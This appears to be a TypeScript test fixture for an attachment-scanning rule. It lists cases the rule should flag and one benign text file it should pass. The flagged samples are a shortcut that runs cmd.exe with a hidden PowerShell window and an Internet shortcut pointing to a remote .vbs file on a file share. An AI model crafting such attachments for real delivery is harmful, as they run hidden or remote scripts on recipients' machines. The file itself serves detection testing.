import type { RuleCases } from '../rule-cases.ts';
import { files } from '../attached-files.fixture.ts';

export const cases: RuleCases = {
  fires: [{ attachment: files.lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden') }, { attachment: { name: 'open.url', type: 'application/octet-stream', body: '[InternetShortcut]\nURL=file://198.51.100.7/share/a.vbs\n' } }],
  spares: [{ attachment: { name: 'url.txt', type: 'text/plain', body: 'hello' } }],
};
